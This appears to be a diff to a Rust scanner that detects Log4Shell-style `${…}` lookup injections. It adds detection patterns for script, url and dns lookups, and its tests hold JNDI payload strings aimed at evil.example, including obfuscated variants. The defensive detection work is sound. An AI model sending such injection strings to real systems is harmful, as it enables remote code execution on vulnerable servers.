@@ -87,9 +87,26 @@ impl Resolver {
         if is_jndi(lookup) {
             return Some(Finding::certain("JNDI lookup", at..end));
         }
+        // `${url:…}` alone is how Spring writes a property with a default.
+        let kinds = [
+            b"script:javascript:".as_slice(),
+            b"script:js:",
+            b"script:groovy:",
+            b"script:nashorn:",
+            b"url:utf",
+            b"dns:address|",
+        ];
+        if kinds.iter().any(|kind| starts_with(lookup, kind)) {
+            return Some(Finding::certain("lookup that runs script or asks another server", at..end));
+        }
         let result = resolve(lookup);
-        let found = (result.len() == 1 && lookup.len() > 1)
-            .then(|| Finding::likely("lookup that hides a single letter", at..end));
+        let surroundings = [b"sys:".as_slice(), b"java:"].iter().any(|kind| starts_with(lookup, kind));
+        let found = if result.len() == 1 && lookup.len() > 1 {
+            Some(Finding::likely("lookup that hides a single letter", at..end))
+        } else {
+            (surroundings && result.is_empty())
+                .then(|| Finding::likely("lookup of the program's surroundings", at..end))
+        };
         let length = result.len();
         self.text.copy_within(start + result.start..start + result.end, start);
         self.text.truncate(start + length);
@@ -129,6 +146,8 @@ mod tests {
             &[
                 "${jndi:ldap://evil.example/a}",
                 "${jndi:rmi://evil.example/a}",
+                "${url:UTF-8:http://evil.example/}",
+                "${script:javascript:1+1}",
                 "${jndi:dns://evil.example}",
                 "${jndi:ldaps://127.0.0.1#evil.example/a}",
                 "${JNDI:LDAP://EVIL.EXAMPLE/a}",
